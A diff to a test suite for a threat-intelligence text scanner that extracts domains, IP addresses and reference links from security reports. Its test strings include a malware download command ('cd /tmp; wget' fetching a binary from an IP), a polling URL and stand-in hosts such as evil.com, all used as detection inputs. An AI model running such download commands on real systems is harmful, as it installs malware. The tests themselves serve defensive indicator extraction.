@@ -289,8 +289,8 @@ suite('scanText: context beats regex', () => {
 		assert.deepEqual(found('/usr/lib/x86.so and /home/user/evil.com'), []);
 	});
 	test('a script object and member (WScript.Shell, ADODB.Stream, requests.post) is no domain, written live', () => {
-		assert.deepEqual(found('CreateObject("WScript.Shell"), ADODB.Stream, WScript.Network; requests.post(u); config.host = 1; req.open("POST", u)'), []);
-		assert.deepEqual(found('config.evil.com and wscript[.]shell'), ['domain config.evil.com', 'domain wscript.shell']);
+		assert.deepEqual(found('CreateObject("WScript.Shell"), ADODB.Stream, WScript.Network; requests.post(u); config.host = 1; req.open("POST", u); hashArray.map(b => b); isExcluded(document.location.host)'), []);
+		assert.deepEqual(found('config.evil.com and wscript[.]shell; hashArray[.]map(x), evil.com(1.2.3.4), document.methoder.com'), ['domain config.evil.com', 'domain wscript.shell', 'domain hasharray.map', 'domain evil.com', 'ipv4 1.2.3.4', 'domain document.methoder.com']);
 	});
 	test('a live link on an address without a scheme is a URL in prose too; a live host and path is not', () => {
 		assert.deepEqual(found('cd /tmp; wget 45.9.1.28/bins/x86 and polls 194.26.1.2:8080/submit.php; see Node.js/Express'), [
@@ -385,6 +385,8 @@ suite('scanText: roles', () => {
 			'reference https://twitter.com/Unit42_Intel',
 			'reference https://attack.mitre.org/T1059',
 		]);
+		// ESET's reports link the MISP project's site for their MISP events, in reports that defang.
+		assert.deepEqual(role('The https://www.misp-project.org[MISP] event for evil[.]com'), ['reference https://www.misp-project.org', 'indicator evil.com']);
 	});
 	test('a defanged link on a user-content site stays an indicator', () => {
 		assert.deepEqual(role('hxxps://github[.]com/evil/repo'), ['indicator https://github.com/evil/repo']);
